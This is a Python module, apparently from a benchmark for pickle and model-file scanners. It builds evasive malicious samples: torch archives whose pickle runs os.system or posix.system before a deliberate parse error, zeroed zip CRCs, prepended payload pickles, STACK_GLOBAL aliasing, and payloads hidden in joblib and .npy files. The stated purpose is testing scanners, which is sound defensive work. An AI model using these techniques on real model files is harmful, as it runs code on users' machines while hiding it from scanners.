"""Hide-and-Seek style evasive samples: one or more inert malicious files per evasion technique.

Each sample names the loader its technique targets; the label oracle loads it with that loader and must
reach the payload's event. Techniques whose file is deliberately broken after the payload
(`expects_load_error`) make scanners that stop at the first parse error report nothing, while the real
loader has already run the payload; with `probe=True` the same files are built around a harmless probe
payload, which shows that the loader fails at the break (and not earlier) without any dangerous event.
"""

from __future__ import annotations

import io
import os
import random
import struct
import tempfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

from safepickle_bench.craft import injection, payloads
from safepickle_bench.craft.payloads import Payload, probe_payload, render

TECHNIQUES: tuple[str, ...] = (
    "eop_parse_error",
    "gadget_outside_denylist",
    "second_stream",
    "7z_broken_pickle",
    "zip_corrupt_central_directory",
    "zip_prepended_pickle",
    "memo_stack_global_alias",
    "nested_base64_pickle",
    "joblib_compressed",
    "npy_object_array",
    "protocol0_inst",
)
"""Evasion techniques (Hide-and-Seek, arXiv 2508.19774, and the in-the-wild reports listed in PAPER.md):

- `eop_parse_error`: exception-oriented programming: torch zip whose data.pkl runs the payload first and then
  hits an invalid opcode; torch.load runs the payload, then raises.
- `gadget_outside_denylist`: payload calls a gadget from gadgets.yaml instead of a deny-listed callable (several).
- `second_stream`: a benign pickle followed by a second stream holding the payload (loader reads to EOF).
- `7z_broken_pickle`: nullifAI (ReversingLabs 2025): a torch archive packed with 7z instead of zip, whose
  data.pkl runs the payload and then breaks; loader: py7zr extraction + pickle of data.pkl.
- `zip_corrupt_central_directory`: torch zip whose central-directory CRC of data.pkl is zeroed: zipfile-based
  scanners fail with "Bad CRC-32", torch's reader does not check it and loads the file.
- `zip_prepended_pickle`: a payload pickle prepended to a torch zip: zip readers skip the prefix and see a clean
  archive; torch.load sees no zip magic at offset 0, takes its legacy path, unpickles the prefix (payload) and
  then fails on the magic number.
- `memo_stack_global_alias`: `posix.system` assembled by STACK_GLOBAL from memoized strings stored earlier
  as innocent dict values.
- `nested_base64_pickle`: a torch state_dict holding `pickle.loads(base64.b64decode(...))` of an inner payload.
- `joblib_compressed`: payload inside a compressed joblib stream, one sample per compressor.
- `npy_object_array`: payload in the pickle of an object-array .npy.
- `protocol0_inst`: protocol-0 text pickle calling `posix.system` through INST.
"""


@dataclass
class EvasiveSample:
    """One evasive sample: where it is, which technique and loader, what it runs."""

    path: str
    """Relative to the output directory."""
    technique: str
    loader: str
    description: str
    payload_family: str
    callables: tuple[str, ...]
    events: tuple[str, ...] = ()
    """Oracle events the payload reaches first (one of them)."""
    expects_load_error: bool = False
    """The loader raises after the payload by design (EOP-style)."""


# --------------------------------------------------------------------------- benign carriers (real libraries)


def _torch_state_dict_bytes(seed: int, legacy: bool = False) -> bytes:
    """Return a small real torch state_dict saved by torch.save."""
    import torch

    gen = torch.Generator().manual_seed(seed)
    model = torch.nn.Sequential(torch.nn.Linear(6, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    with torch.no_grad():
        for p in model.parameters():
            p.copy_(torch.randn(p.shape, generator=gen))
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


def _joblib_model_bytes(seed: int, compress: tuple[str, int] | int = 0) -> bytes:
    """Return a small real scikit-learn model with numpy arrays saved by joblib.dump."""
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rs = np.random.RandomState(seed)
    x = rs.rand(40, 4)
    model = LogisticRegression().fit(x, (x[:, 0] > 0.5).astype(int))
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "model.joblib"
        joblib.dump({"model": model, "scaler_mean": x.mean(axis=0), "classes": ["neg", "pos"]}, path,
                    compress=compress)
        return path.read_bytes()


def _npy_object_bytes() -> bytes:
    """Return a real object-array .npy written by numpy.save."""
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.array([{"token": "hello", "id": 1}, "vocab", None], dtype=object), allow_pickle=True)
    return buf.getvalue()


# --------------------------------------------------------------------------- helpers


def _zip_members(data: bytes) -> dict[str, bytes]:
    """Return a zip's members in order."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    return {name: archive.read(name) for name in archive.namelist()}


def _data_pkl_name(members: dict[str, bytes]) -> str:
    """Return the name of the data.pkl member."""
    return next(n for n in members if n.endswith("data.pkl"))


def _break_after(stream: bytes, payload: Payload, protocol: int = 2) -> bytes:
    """Return PROTO, payload, POP, the original stream's opcodes with STOP replaced by an invalid opcode."""
    body = stream[2:] if stream[:1] == b"\x80" else stream
    if body[-1:] != b".":
        raise ValueError("expected a stream ending in STOP")
    return b"\x80" + bytes([protocol]) + payload.at_protocol(protocol).body + b"0" + body[:-1] + b"\xff"


def _replace_zip_member(data: bytes, name: str, content: bytes) -> bytes:
    """Return a torch zip with one member replaced, rebuilt aligned like torch writes it."""
    return injection._rewrite_zip(data, {name: content}, align=64)


def _zero_cd_crc(data: bytes, name: str) -> bytes:
    """Return a zip whose central-directory entry for `name` carries a zero CRC-32."""
    out = bytearray(data)
    target = name.encode()
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack("<H", out[pos + 28:pos + 30])[0]
        if bytes(out[pos + 46:pos + 46 + name_len]) == target:
            out[pos + 16:pos + 20] = b"\0\0\0\0"
            return bytes(out)
        pos = out.find(b"PK\x01\x02", pos + 4)
    raise ValueError(f"{name} not in the central directory")


def _seven_zip(members: dict[str, bytes]) -> bytes:
    """Return a 7z archive of the members (fixed timestamps, so the bytes are reproducible)."""
    import py7zr

    with tempfile.TemporaryDirectory() as tmp:
        buf = io.BytesIO()
        with py7zr.SevenZipFile(buf, "w") as archive:
            for i, (name, content) in enumerate(members.items()):
                src = Path(tmp) / f"m{i}"
                src.write_bytes(content)
                os.utime(src, (0, 0))
                archive.write(src, name)
        return buf.getvalue()


def _memo_alias_stream(module: str, name: str, arg: str) -> bytes:
    """Return a protocol-4 pickle that keeps `module`/`name` as innocent dict values, then aliases them."""
    s = lambda text: render(text, 4)  # noqa: E731 - short local assembler
    memoize = b"\x94"
    out = b"\x80\x04" + b"}" + memoize  # root dict, memo 0
    out += b"(" + s("framework") + memoize + s(module) + memoize + s("entry") + memoize + s(name) + memoize
    out += s("version") + memoize + b"K\x02" + b"u"  # {'framework': module, 'entry': name, 'version': 2}
    out += s("hooks") + memoize + b"h\x02" + b"h\x04" + b"\x93" + s(arg) + b"\x85R" + b"s"  # root['hooks'] = f(arg)
    return out + b"."


def _inst_stream(module: str, name: str, arg: str) -> bytes:
    """Return a protocol-0 text pickle `{'run': module.name(arg)}` built with INST."""
    return (b"(dp0\nVrun\np1\n(" + render(arg, 0) + b"i" + module.encode() + b"\n" + name.encode() + b"\np2\n"
            + b"s.")


# --------------------------------------------------------------------------- samples


def build_evasive_samples(out_dir: Path, marker_dir: str, seed: int = 0, *, probe: bool = False) -> list[EvasiveSample]:
    """Write one or more evasive samples per technique into `out_dir` and return their descriptions.

    Deterministic for the same seed. With `probe=True` every payload is replaced by a harmless probe
    (`builtins.str`), for checking that the files load (or fail only at their deliberate break) without it.
    """
    out_dir = Path(out_dir)
    out_dir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    samples: list[EvasiveSample] = []

    def pay(family: str, variant: int, protocol: int = 2) -> Payload:
        real = payloads.build_payload(family, marker_dir, protocol=protocol, variant=variant,
                                      rng=random.Random(rng.getrandbits(64)))
        if not probe:
            return real
        fake = probe_payload(protocol)
        fake.family = real.family
        return fake

    def add(name: str, data: bytes, technique: str, loader: str, description: str, p: Payload,
            expects_load_error: bool = False, events: tuple[str, ...] | None = None) -> None:
        (out_dir / name).write_bytes(data)
        samples.append(EvasiveSample(
            path=name, technique=technique, loader=loader, description=description, payload_family=p.family,
            callables=p.callables, events=p.events if events is None else events,
            expects_load_error=expects_load_error,
        ))

    torch_zip = _torch_state_dict_bytes(seed)
    members = _zip_members(torch_zip)
    data_name = _data_pkl_name(members)

    # 1. exception-oriented programming: payload, then an invalid opcode, in a real torch zip
    p = pay("os_system", rng.randrange(100))
    add("eop_parse_error.pt", _replace_zip_member(torch_zip, data_name, _break_after(members[data_name], p)),
        "eop_parse_error", "torch",
        "torch zip whose data.pkl runs os.system then hits invalid opcode 0xff instead of STOP", p, True)

    # 2. gadgets outside deny-lists, injected at the start of a real state_dict
    gadget_names = [g.name for g in payloads.load_gadgets()]
    for wanted in ("pkgutil.resolve_name", "logging.config.dictConfig", "timeit.timeit",
                   "code.InteractiveInterpreter.runsource", "torch.utils.collect_env.run",
                   "numpy.f2py.crackfortran.getlincoef"):
        if wanted not in gadget_names:
            continue
        p = pay("gadget", gadget_names.index(wanted))
        stem = wanted.replace(".", "_")
        add(f"gadget_{stem}.pt", injection.inject(torch_zip, p, "prepend", rng=random.Random(rng.getrandbits(32))),
            "gadget_outside_denylist", "torch", f"state_dict with a {wanted} call prepended in data.pkl", p)

    # 3. second stream after a benign pickle
    p = pay("subprocess", rng.randrange(100), protocol=4)
    benign = b"\x80\x04" + render(payloads.Dct((("epoch", 3), ("lr", "0.001"))), 4) + b"."
    add("second_stream.pkl", benign + p.stream(4), "second_stream", "pickle_multi",
        "benign config pickle followed by a second stream running subprocess", p)

    # 4. nullifAI: 7z-packed torch archive with a broken pickle
    p = pay("posix_system", rng.randrange(100))
    packed = dict(members)
    packed[data_name] = _break_after(members[data_name], p)[:-40]  # payload intact, then cut mid-stream
    add("nullifai_7z.pt", _seven_zip(packed), "7z_broken_pickle", "7z_pickle",
        "torch archive packed with 7z; data.pkl runs posix.system first, then fails (truncated stream; tensor "
        "records cannot be rebuilt outside torch)", p, True)

    # 5. torch zip with a corrupt central directory (zipfile fails, torch loads)
    p = pay("builtins_exec", rng.randrange(100))
    infected = injection.inject(torch_zip, p, "prepend", rng=random.Random(rng.getrandbits(32)))
    add("zip_bad_cd_crc.pt", _zero_cd_crc(infected, data_name), "zip_corrupt_central_directory", "torch",
        "torch zip, payload in data.pkl, central-directory CRC of data.pkl zeroed (zipfile: Bad CRC-32)", p)

    # 6. payload pickle prepended to a torch zip (polyglot)
    p = pay("os_system", rng.randrange(100))
    add("zip_prepended_pickle.pt", p.stream(2) + torch_zip, "zip_prepended_pickle", "torch",
        "payload pickle prepended to a clean torch zip: torch.load takes the legacy path and unpickles it", p, True)

    # 7. memo / STACK_GLOBAL alias of posix.system
    real = pay("posix_system", rng.randrange(100))
    module, name = ("builtins", "str") if probe else ("posix", "system")
    command = "SAFEPICKLE-probe" if probe else real.expr.args[0]  # the inert echo of the posix_system payload
    add("memo_alias_posix_system.pkl", _memo_alias_stream(module, name, command), "memo_stack_global_alias",
        "pickle", "posix.system resolved by STACK_GLOBAL from memoized strings stored as dict values", real)

    # 8. nested base64 pickle inside a state_dict
    variant = next(v for v in range(rng.randrange(100), 1000) if (v // 9) % 3 == 1)  # base64 encoding
    p = pay("nested_pickle", variant)
    add("nested_base64.pt", injection.inject(torch_zip, p, "nested", rng=random.Random(rng.getrandbits(32))),
        "nested_base64_pickle", "torch", f"state_dict value = {p.description}", p)

    # 9. joblib compressed variants, one per compressor
    for compressor in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        p = pay("import_getattr_chain", rng.randrange(100))
        carrier = _joblib_model_bytes(seed, (compressor, 3))
        where = "between_arrays" if compressor in ("zlib", "xz", "lz4") else "nested"
        add(f"joblib_{compressor}.joblib",
            injection.inject(carrier, p, where, rng=random.Random(rng.getrandbits(32))),
            "joblib_compressed", "joblib", f"joblib {compressor}-compressed model, payload {where}", p)

    # 10. npy object array
    p = pay("attrgetter_chain", rng.randrange(100), protocol=3)
    add("object_array.npy", injection.inject(_npy_object_bytes(), p, "prepend", rng=random.Random(rng.getrandbits(32))),
        "npy_object_array", "numpy", "object-array .npy whose pickle runs an attrgetter chain first", p)

    # 11. protocol-0 INST
    real = pay("posix_system", rng.randrange(100), protocol=0)
    module, name = ("builtins", "str") if probe else ("posix", "system")
    command = "SAFEPICKLE-probe" if probe else real.expr.args[0]
    add("protocol0_inst.pkl", _inst_stream(module, name, command), "protocol0_inst", "pickle",
        "protocol-0 text pickle calling posix.system through INST", real)

    if probe:
        for s in samples:
            s.events = ()
    return samples


